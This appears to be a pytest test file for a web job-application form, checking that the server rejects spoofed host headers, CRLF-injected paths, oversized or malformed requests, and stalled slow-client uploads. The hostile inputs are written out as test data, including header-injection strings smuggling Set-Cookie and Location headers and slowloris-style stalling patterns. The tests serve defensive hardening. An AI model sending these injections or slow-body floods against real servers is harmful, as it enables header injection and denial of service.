        [
            {"Host": EVIL, "Origin": f"http://{EVIL}"},
            {"X-Forwarded-Host": EVIL, "Origin": f"http://{EVIL}"},
            {"Forwarded": f"host={EVIL};proto=https", "Origin": f"https://{EVIL}"},
            EVIL_HOSTS | {"Origin": f"http://{EVIL}", "Sec-Fetch-Site": "same-origin"},
        ],
        ids=["host", "x-forwarded-host", "forwarded", "all-of-them"],
    )
    def test_a_post_from_an_evil_host_is_403(self, public_app, sandbox, cv, headers):
        client = public_app.test_client()
        fields = valid_fields(open_form(client))
        response = send(client, fields, [("cv", cv, CV)], headers=headers)
        assert response.status_code == 403
        assert_no_evil(response)
        assert_unharmed(public_app, sandbox, client)

    @pytest.mark.parametrize(
        ("changes", "status"),
        [
            ({"email": "not-an-address"}, 422),
            ({"website": "spam"}, 422),
            ({"form_token": "x"}, 403),
        ],
        ids=["invalid-field", "honeypot", "forged-token"],
    )
    def test_a_refusal_under_an_evil_host_names_only_ours(
        self, public_app, sandbox, cv, changes, status
    ):
        client = public_app.test_client()
        fields = valid_fields(open_form(client), **changes)
        response = send(client, fields, [("cv", cv, CV)], headers=EVIL_HOSTS)
        assert response.status_code == status
        assert_no_evil(response)
        assert_unharmed(public_app, sandbox, client)

    def test_an_oversized_body_under_an_evil_host_names_only_ours(self, public_app, sandbox, cv):
        client = public_app.test_client()
        body = good_body(client, cv)
        response = post_raw(client, body, headers=EVIL_HOSTS, content_length=70_000_000)
        assert response.status_code == 413
        assert_no_evil(response)
        assert_unharmed(public_app, sandbox, client)

    @pytest.mark.parametrize(
        "content_type",
        [
            "text/plain",
            "application/json",
            "application/x-www-form-urlencoded",
            "multipart/mixed; boundary=" + BOUNDARY,
            "multipart/form-data; charset=utf-8",
            "multipart/form-data; boundary*=utf-8''" + BOUNDARY,
            "x" * 10_000,
            "",
        ],
        ids=[
            "text-plain",
            "json",
            "urlencoded",
            "multipart-mixed",
            "multipart-no-boundary",
            "rfc2231-boundary",
            "10k-of-nonsense",
            "empty",
        ],
    )
    def test_an_absurd_content_type_is_400(self, app, client, sandbox, cv, content_type):
        response = post_raw(client, good_body(client, cv), content_type)
        assert response.status_code == 400
        assert_unharmed(app, sandbox, client)

    @pytest.mark.parametrize(
        "path",
        [
            f"/en/jobs/{JOB}/apply%0D%0ASet-Cookie:%20evil=1",
            f"/en/jobs/{JOB}%0d%0aLocation:%20http://{EVIL}/apply",
            f"/en/jobs/{JOB}/apply/" + "a" * 50_000,
        ],
        ids=["crlf-set-cookie", "crlf-location", "50k-path"],
    )
    def test_a_hostile_path_is_404(self, app, client, sandbox, cv, path):
        response = post_raw(client, good_body(client, cv), path=path)
        assert response.status_code == 404
        assert "Set-Cookie" not in response.headers
        assert_no_evil(response)
        assert_unharmed(app, sandbox, client)

    @pytest.mark.parametrize(
        ("digits", "status"),
        # Over 4,300 digits Python's int() refuses the id, so no rule matches it; Werkzeug's
        # method check still finds the GET rule by its pattern and says 405, not a 500.
        [(4000, 404), (5000, 405)],
        ids=["4000-digit-job-id", "5000-digit-job-id"],
    )
    def test_an_absurd_job_id(self, app, client, sandbox, cv, digits, status):
        path = f"/en/jobs/{'9' * digits}/apply"
        response = post_raw(client, good_body(client, cv), path=path)
        assert response.status_code == status
        assert_unharmed(app, sandbox, client)

    # What gunicorn itself refuses, before the app sees a byte.
    @pytest.mark.system
    def test_a_request_line_over_4094_bytes_is_414(self, gunicorn, served, sandbox):
        with gunicorn.connect() as sock:
            sock.sendall(
                gunicorn.head("Content-Length: 0\r\n", path=f"/en/jobs/{JOB}/apply?" + "a" * 5000)
            )
            assert read_status(sock) == 414
        assert_unharmed(gunicorn.app, sandbox, served)

    @pytest.mark.system
    def test_a_header_over_8190_bytes_is_431(self, gunicorn, served, sandbox):
        with gunicorn.connect() as sock:
            sock.sendall(gunicorn.head("Cookie: " + "c" * 9000 + "\r\nContent-Length: 0\r\n"))
            assert read_status(sock) == 431
        assert_unharmed(gunicorn.app, sandbox, served)

    @pytest.mark.system
    def test_a_raw_cr_in_the_request_line_is_400(self, gunicorn, served, sandbox):
        with gunicorn.connect() as sock:
            sock.sendall(gunicorn.head("Content-Length: 0\r\n", path=f"/en/jobs/{JOB}/apply\rX: y"))
            assert read_status(sock) == 400
        assert_unharmed(gunicorn.app, sandbox, served)


# --- slow clients -----------------------------------------------------------------------------


class TestSlowClients:
    @pytest.mark.system
    @pytest.mark.parametrize(
        "sent",
        [lambda body: b"", lambda body: body[:300], lambda body: body[: len(body) // 2]],
        ids=["stalls-before-the-body", "stalls-after-the-token", "stalls-in-the-file"],
    )
    def test_a_stalled_body_is_408(self, gunicorn, served, sandbox, tmp_path, sent):
        body = _big_form(gunicorn, tmp_path)
        with gunicorn.connect() as sock:
            sock.sendall(
                gunicorn.head(f"Content-Type: {MULTIPART}\r\nContent-Length: {len(body)}\r\n")
            )
            sock.sendall(sent(body))
            started = time.monotonic()
            assert read_status(sock) == 408
            assert time.monotonic() - started < 10
        assert_unharmed(gunicorn.app, sandbox, served, settle=5)

    @pytest.mark.system
    def test_a_chunked_body_that_stalls_is_408(self, gunicorn, served, sandbox, tmp_path):
        body = _chunked(_big_form(gunicorn, tmp_path))
        with gunicorn.connect() as sock:
            sock.sendall(
                gunicorn.head(f"Content-Type: {MULTIPART}\r\nTransfer-Encoding: chunked\r\n")
            )
            sock.sendall(body[: len(body) // 2])
            assert read_status(sock) == 408
        assert_unharmed(gunicorn.app, sandbox, served, settle=5)

    @pytest.mark.system
    def test_a_crawling_body_is_408(self, gunicorn, served, sandbox, tmp_path):
        body = _big_form(gunicorn, tmp_path)
        with gunicorn.connect() as sock:
            sock.sendall(
                gunicorn.head(f"Content-Type: {MULTIPART}\r\nContent-Length: {len(body)}\r\n")
            )
            sock.settimeout(0.05)
            status = 0
            for start in range(0, len(body), 100):  # 100 bytes every 50 ms: 2 kB/s
                try:
                    sock.sendall(body[start : start + 100])
                except OSError:
                    break  # the server stopped reading and answered
                try:
                    status = read_status(sock)
                    break
                except TimeoutError:
                    continue
            if not status:
                sock.settimeout(10)
                status = read_status(sock)
            assert status == 408
        assert_unharmed(gunicorn.app, sandbox, served, settle=5)

    @pytest.mark.system
    def test_a_forged_post_that_then_stalls_is_403_at_once(
        self, gunicorn, served, sandbox, tmp_path
    ):
        body = _big_form(gunicorn, tmp_path, token="forged")
        with gunicorn.connect() as sock:
            sock.sendall(
                gunicorn.head(f"Content-Type: {MULTIPART}\r\nContent-Length: {len(body)}\r\n")
            )
            started = time.monotonic()
            sock.sendall(body[:200_000])
            assert read_status(sock) == 403
            assert time.monotonic() - started < 1.5  # before the stall limit could have cut it
        assert_unharmed(gunicorn.app, sandbox, served, settle=5)

    def test_every_upload_slot_taken_is_503(self, app, client, sandbox, cv):
        gate = app.extensions["careers"].upload_gate
        taken = []
        # As many uploads in progress as the process reads at once, each another client's.
        while slot := gate.acquire(f"client {len(taken)}"):
            taken.append(slot)
        try:
            response = send(client, valid_fields(open_form(client)), [("cv", cv, CV)])
            assert response.status_code == 503 and response.headers["Retry-After"] == "30"
        finally:
            for slot in taken:
                gate.release(slot)
        assert_unharmed(app, sandbox, client)
